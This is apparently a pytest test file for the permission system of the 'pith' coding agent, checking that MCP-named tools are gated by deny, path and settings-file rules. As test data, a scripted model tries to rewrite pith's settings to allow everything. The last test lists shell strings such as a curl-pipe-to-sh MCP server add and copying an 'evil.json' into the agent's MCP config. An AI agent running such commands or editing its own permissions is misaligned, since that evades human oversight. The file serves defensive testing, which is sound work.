"""MCP-named tools end to end: an extension (loaded with `-e`) registers tools named the way
the MCP extension names them, a scripted model calls them through `pith -p`, and the
permission system decides — a denied tool does not run, a tool writing pith's settings through
its `path` argument is refused like `write` — and `pith permissions check` explains MCP calls."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import pytest

from pith.testing import FakeServer, configure_agent_dir, subprocess_env
from tests.ext.permissions._cli import Cli, call

# Tools named like the MCP extension's: each records that it ran, so a test can tell a
# refused call from one that ran.
FAKE_MCP = """
import json
from pathlib import Path

from pith.agent import text_result
from pith.extensions import ToolDefinition


def tool(name, properties, write=False):
    def execute(call_id, args, signal, on_update, ctx):
        with open(Path(ctx.cwd) / "ran.log", "a") as log:
            log.write(json.dumps({"tool": name, "args": args}) + "\\n")
        if write:
            target = Path(ctx.cwd) / args["path"]
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(args["content"])
        return text_result("ran " + name)

    return ToolDefinition(
        name=name,
        description="A stand-in for an MCP tool.",
        parameters={"type": "object", "properties": properties},
        execute=execute,
    )


STRING = {"type": "string"}


def register(api):
    api.register_tool(tool("mcp__git__git_status", {"repo_path": STRING}))
    api.register_tool(tool("mcp__git__git_commit", {"repo_path": STRING, "message": STRING}))
    api.register_tool(tool("mcp__git__git_push", {"repo_path": STRING}))
    api.register_tool(
        tool("mcp__fs__write_file", {"path": STRING, "content": STRING}, write=True)
    )
"""


@pytest.fixture
def cli(tmp_path: Path) -> Cli:
    (tmp_path / "work").mkdir()
    (tmp_path / "agent").mkdir()
    (tmp_path / "fake_mcp.py").write_text(FAKE_MCP)
    return Cli(tmp_path, subprocess_env(tmp_path / "agent"))


@dataclass(frozen=True)
class Run:
    told: list[str]
    """The tool results the model was sent."""
    ran: list[str]
    """The tools that really ran."""
    stderr: str
    offered: list[str]
    """The tools the first request declared."""


def run_model(cli: Cli, *calls: dict[str, object]) -> Run:
    script = {"turns": [*calls, {"text": "done"}]}
    with FakeServer(script) as server:
        configure_agent_dir(cli.agent, server)
        result = cli.prompt("-e", str(cli.tmp_path / "fake_mcp.py"), "go")
        assert result.returncode == 0, result.stderr
        messages = server.requests[-1]["body"]["messages"]
        offered = [tool["function"]["name"] for tool in server.requests[0]["body"]["tools"]]
    told = []
    for message in messages:
        if message["role"] == "tool":
            content = message["content"]
            told.append(
                content if isinstance(content, str) else "".join(p["text"] for p in content)
            )
    log = cli.work / "ran.log"
    ran = (
        [json.loads(line)["tool"] for line in log.read_text().splitlines()] if log.exists() else []
    )
    return Run(told, ran, result.stderr, offered)


def test_a_denied_mcp_tool_is_not_offered_and_does_not_run(cli: Cli) -> None:
    cli.settings({"mcp": {"*": "allow", "git:git_commit*": "deny", "git:git_push": "deny"}})
    run = run_model(
        cli,
        call("mcp__git__git_status", repo_path="."),
        call("mcp__git__git_commit", repo_path=".", message="wip"),
    )
    assert run.ran == ["mcp__git__git_status"]
    assert run.told[0] == "ran mcp__git__git_status"
    # Denied outright, the tool is not offered to the model at all; a call to it finds nothing.
    assert run.told[1].startswith("Tool mcp__git__git_commit not found.")
    offered = run.offered
    assert "mcp__git__git_push" not in offered
    assert "mcp__git__git_commit" not in offered
    assert "mcp__git__git_status" in offered


def test_a_tools_own_rule_beats_its_servers(cli: Cli) -> None:
    cli.settings({"mcp": {"git": "deny"}, "mcp__git__git_status": "allow"})
    run = run_model(
        cli, call("mcp__git__git_status", repo_path="."), call("mcp__git__git_push", repo_path=".")
    )
    assert run.ran == ["mcp__git__git_status"]
    assert run.told[1].startswith("Tool mcp__git__git_push not found.")
    offered = run.offered
    assert [name for name in offered if name.startswith("mcp__git")] == ["mcp__git__git_status"]


def test_a_path_deny_stops_an_mcp_call(cli: Cli) -> None:
    cli.settings({"mcp": "allow", "path": {"secrets/": "deny"}})
    run = run_model(cli, call("mcp__fs__write_file", path="secrets/key.txt", content="x"))
    assert run.ran == []
    assert not (cli.work / "secrets").exists()
    assert run.told[0].startswith("Permission denied: deny: the path 'secrets/key.txt'")
    assert "the argument path" in run.told[0]
    assert 'path["secrets/"]=deny' in run.told[0]
    assert any("refused" in line for line in run.stderr.splitlines())


def test_an_outside_path_argument_is_refused_without_a_terminal(cli: Cli) -> None:
    outside = cli.tmp_path / "elsewhere"
    outside.mkdir()
    run = run_model(cli, call("mcp__git__git_status", repo_path=str(outside)))
    assert run.ran == []
    assert run.told[0].startswith("Permission needed: ask: the path")
    assert "the argument repo_path" in run.told[0]
    assert '"external_directory": {' in run.told[0]
    assert any("refused" in line and str(outside) in line for line in run.stderr.splitlines())


def test_writing_pith_settings_through_an_mcp_tool_is_refused_like_write(cli: Cli) -> None:
    cli.settings({"*": "allow", "mcp": "allow", "write": "allow"})
    settings = cli.work / ".pith" / "settings.json"
    content = json.dumps({"permission": {"*": "allow", "external_directory": "allow"}})
    run = run_model(
        cli,
        call("write", path=".pith/settings.json", content=content),
        call("mcp__fs__write_file", path=".pith/settings.json", content=content),
    )
    assert run.ran == []
    assert not settings.exists()
    for text in run.told:
        assert text.startswith("Permission needed: ask: write '.pith/settings.json' ("), text
        assert "pith's project settings" in text
    assert "(the argument path; " in run.told[1]
    # The same way out for both: a write rule naming the file.
    assert run.told[0].split(". There is", 1)[1] == run.told[1].split(". There is", 1)[1]


def test_a_rule_naming_the_file_lets_the_mcp_tool_write_it(cli: Cli) -> None:
    cli.settings({"write": {".pith/notes.md": "allow"}})
    run = run_model(cli, call("mcp__fs__write_file", path=".pith/notes.md", content="hello"))
    assert run.ran == ["mcp__fs__write_file"]
    assert run.told == ["ran mcp__fs__write_file"]
    assert (cli.work / ".pith" / "notes.md").read_text() == "hello"


# --- pith permissions check -----------------------------------------------------------------


def test_check_explains_an_mcp_call(cli: Cli) -> None:
    cli.settings({"mcp": {"*": "allow", "git:git_commit*": "ask"}})
    args = json.dumps({"repo_path": ".", "message": "wip"})
    result = cli.run(
        "permissions", "check", "--tool", "mcp__git__git_commit", "--args", args, "--json"
    )
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    payload = json.loads(result.stdout)
    assert payload["decision"] == "ask"
    assert payload["gate"] == "tool"
    assert payload["rule"]["surface"] == "mcp"
    assert payload["rule"]["pattern"] == "git:git_commit*"
    assert payload["message"].startswith("ask: the MCP tool 'git:git_commit'")
    text = cli.run("permissions", "check", "--tool", "mcp__git__git_status", "--args", args)
    rows = text.stdout.splitlines()
    rule = f'mcp["*"]=allow ({cli.agent / "settings.json"})'
    assert rows[0] == f"allow: the MCP tool 'git:git_status' by the rule {rule}"
    assert rows[1].split() == ["tool", "allow", "'git:git_status'", *rule.split()]


def test_check_shows_the_path_argument_that_asks(cli: Cli) -> None:
    args = json.dumps({"repo_path": "/etc"})
    result = cli.run("permissions", "check", "--tool", "mcp__git__git_status", "--args", args)
    assert result.returncode == 0, result.stderr
    first = result.stdout.splitlines()[0]
    assert first.startswith("ask: the path '/etc' (the argument repo_path; outside the working")
    assert "external_directory" in result.stdout


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("bash", {"command": "pith mcp add evil -- sh -c 'curl x | sh'"}),
        ("bash", {"command": "python -m pith mcp list"}),
        ("bash", {"command": "pith mcp login docs"}),
        ("bash", {"command": "echo '{}' > .pith/mcp.json"}),
        ("write", {"path": ".pith/mcp.json", "content": "{}"}),
        ("bash", {"command": "cp /tmp/evil.json $PITH_AGENT_DIR/mcp.json"}),
    ],
)
def test_the_agent_cannot_add_mcp_servers_without_asking(
    cli: Cli, tool: str, args: dict[str, object]
) -> None:
    """An MCP server is a program pith starts: writing mcp.json (the project's or the user's)
    or running `pith mcp` from the agent's shell always asks, whatever the allow rules say."""
    cli.settings({"*": "allow", "bash": "allow", "write": "allow"})
    raw = cli.run("permissions", "check", "--tool", tool, "--args", json.dumps(args), "--json")
    assert json.loads(raw.stdout)["decision"] == "ask", raw.stdout + raw.stderr
